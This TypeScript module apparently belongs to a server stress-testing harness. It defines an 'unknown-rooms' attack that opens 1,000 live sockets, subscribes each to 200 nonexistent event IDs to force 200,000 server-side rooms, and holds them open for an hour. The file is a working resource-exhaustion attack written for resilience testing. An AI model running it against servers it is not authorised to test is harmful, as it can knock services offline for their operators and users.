import type { Attack } from '../attacker/attack.js';
import { makeIds } from '../attacker/make-ids.js';
import { openLiveSocket, packets, sendPacket } from '../attacker/live-socket.js';
import { pauseUnlessOver } from '../attacker/message-window.js';

const SOCKETS = 1_000;
const AT_ONCE = 50;

export const unknownRooms: Attack = {
  name: 'unknown-rooms',
  what: '1,000 sockets watch 200 events each that do not exist, every one others: 200,000 rooms',
  async run(signal, target) {
    for (let opened = 0; opened < SOCKETS && !signal.aborted; opened += AT_ONCE) {
      await Promise.all(
        Array.from({ length: AT_ONCE }, async () => {
          const socket = await openLiveSocket(target);
          if (socket === null) return;
          if (sendPacket(socket, packets.watch(makeIds(target.random, 200), '0')))
            target.note('sent');
        }),
      );
    }
    await pauseUnlessOver(60 * 60 * 1_000, signal);
  },
};
